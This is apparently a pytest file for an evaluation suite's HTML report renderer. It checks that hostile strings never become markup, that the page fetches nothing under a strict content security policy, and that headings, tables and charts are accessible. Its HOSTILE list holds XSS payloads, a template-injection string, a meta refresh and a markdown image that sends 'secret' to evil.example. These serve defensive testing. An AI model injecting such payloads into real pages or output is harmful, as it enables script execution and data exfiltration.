"""The page of a report: everything on it, nothing in it that acts, whatever the documents say."""

from __future__ import annotations

import base64
import hashlib
import re
from html.parser import HTMLParser
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from eval.suite.comparing import compare
from eval.suite.html import content_security_policy, render_html
from eval.suite.marking import pieces
from eval.suite.report import FailureBody, SuiteReport
from tests.eval.suite.reports import case_about, means, report_of

ALLOWED = frozenset(
    "html head meta title style body header main section article h1 h2 h3 h4 p ul ol li a span sup mark br "
    "div blockquote details summary table caption thead tbody tr th td dl dt dd figure figcaption "
    "svg desc rect line path circle text".split()
)
HOSTILE = (
    "<script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "<svg onload=alert(1)>",
    "{{ 7 * 7 }}{% include 'x' %}",
    "javascript:alert(1)",
    "![x](https://evil.example/?q=secret)",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "]]><!--",
    "‮gnp.exe",
    "\x00\x07\x1b[31m",
    "half \ud83d of a pair",
    "&lt;b&gt; &amp;amp;",
    "é 漢字 🙂",
)


class Page(HTMLParser):
    """Tags, attributes and text of a page."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.ids: list[str] = []
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]
        self.ids += [value or "" for name, value in attrs if name == "id"]

    def handle_data(self, data: str) -> None:
        self.text += data


def full_report(text: str) -> SuiteReport:
    values = [1.0, 0.5, 0.0, 1.0]
    figures = {"faithfulness": {"trivial": {text or "none": 0.5}, "title": text, "explained": text}}
    report = report_of(
        means(values),
        figures=figures,
        cases=[case_about(text), case_about(text, verdict="supported")],
        failures=[FailureBody(part=text, file=text, line=3, reason=text)],
    )
    return compare(report, report, name=text)


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_becomes_markup(text: str) -> None:
    page = Page(render_html(full_report(text)))
    assert page.tags <= ALLOWED
    for tag, name, value in page.attributes:
        assert not name.startswith("on"), (tag, name)
        assert name not in {"src", "style", "action", "formaction", "srcdoc", "background"}
        assert name != "href" or value.startswith("#")
    shown = text.replace("\ud83d", "�")
    assert shown in page.text or shown.replace("\x00", "�") in page.text


def test_the_page_fetches_nothing_and_forbids_itself_everything_else() -> None:
    html = render_html(full_report("plain"))
    style = re.search(r"<style>(.*?)</style>", html, re.DOTALL)
    assert style is not None
    digest = base64.b64encode(hashlib.sha256(style[1].encode()).digest()).decode()
    policy = content_security_policy()
    assert policy.startswith(f"default-src 'none'; style-src 'sha256-{digest}'")
    assert ("meta", "content", policy) in Page(html).attributes
    assert "url(" not in style[1]
    assert "@import" not in style[1]
    assert "http://" not in html
    assert "https://" not in html


def test_a_verdict_is_told_by_sign_and_words_and_not_by_colour_alone() -> None:
    text = Page(render_html(full_report("The sky is green."))).text
    assert "? not carried by the passages, 0.25" in text
    assert "✓ supported by the passages, 0.25" in text


def test_headings_step_down_one_at_a_time_and_ids_are_unique() -> None:
    html = render_html(full_report("plain"))
    levels = [int(level) for level in re.findall(r"<h([1-6])", html)]
    assert levels[0] == 1
    assert levels.count(1) == 1
    assert all(after - before <= 1 for before, after in pairwise(levels))
    ids = Page(html).ids
    assert len(ids) == len(set(ids))


def test_every_table_has_a_caption_and_every_chart_a_title_and_a_text() -> None:
    html = render_html(full_report("plain"))
    assert html.count("<table>") == html.count("<caption>") > 0
    assert html.count("<svg") == html.count("<desc") == html.count('role="img"') > 0
    assert re.findall(r"<th(?! scope=)[ >]", html) == []


def test_a_report_without_anything_to_show_is_a_page_too() -> None:
    report = report_of(means([None, None]), figures={"faithfulness": {"threshold": 0.5, "passed": False}})
    text = Page(render_html(report)).text
    assert "faithfulness is not defined, below its threshold of 0.5." in text


def test_the_same_report_gives_the_same_page() -> None:
    report = full_report("plain")
    assert render_html(report) == render_html(report)


spans = st.lists(st.tuples(st.integers(-5, 30), st.integers(-5, 30), st.sampled_from(["1", "2", "gold"])))


@given(st.text(max_size=20), spans)
def test_marked_pieces_are_the_text_and_carry_the_marks_that_lie_on_them(
    text: str, marks: list[tuple[int, int, str]]
) -> None:
    at = 0
    for piece in pieces(text, marks):
        assert text.startswith(piece.text, at)
        middle = at
        assert set(piece.marks) == {mark for start, end, mark in marks if max(start, 0) <= middle < end}
        at += len(piece.text)
    assert at == len(text)
